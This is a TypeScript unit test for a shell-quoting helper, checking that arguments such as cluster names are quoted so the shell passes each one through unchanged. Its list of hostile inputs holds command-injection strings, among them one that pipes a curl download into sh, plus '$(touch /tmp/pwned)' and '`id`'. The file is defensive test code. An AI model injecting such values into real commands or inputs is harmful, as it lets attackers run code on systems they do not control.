import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { shellCommand, shellQuote } from '../../../src/mesh/shellQuote';

/** What sh makes of a command line: its arguments, each as sh passes it on. */
function shArgs(line: string): string[] {
  const out = execFileSync('sh', ['-c', `for a in ${line}; do printf '%s\\0' "$a"; done`], { encoding: 'utf8' });
  return out.split('\0').slice(0, -1);
}

describe('shellQuote', () => {
  it('leaves plain words alone and single-quotes the rest', () => {
    assert.equal(shellQuote('kind-prod'), 'kind-prod');
    assert.equal(shellQuote('revision=1-24-2'), 'revision=1-24-2');
    assert.equal(shellQuote('arn:aws:eks:eu-west-1:123:cluster/prod'), 'arn:aws:eks:eu-west-1:123:cluster/prod');
    assert.equal(shellQuote('a b'), "'a b'");
    assert.equal(shellQuote(''), "''");
    assert.equal(shellQuote("it's"), "'it'\\''s'");
  });

  it('every hostile string comes back from sh as exactly one argument, unchanged', () => {
    const hostile = [
      'prod; curl http://x/y | sh #', '$(touch /tmp/pwned)', '`id`', "a'b\"c", 'x\nspec:\n  hub: evil', '*', '~root', '-rf', '\\', '{"a":1}', 'a\tb',
    ];
    for (const h of hostile) assert.deepEqual(shArgs(shellQuote(h)), [h], h);
    assert.deepEqual(shArgs(shellCommand(hostile)), hostile);
  });
});
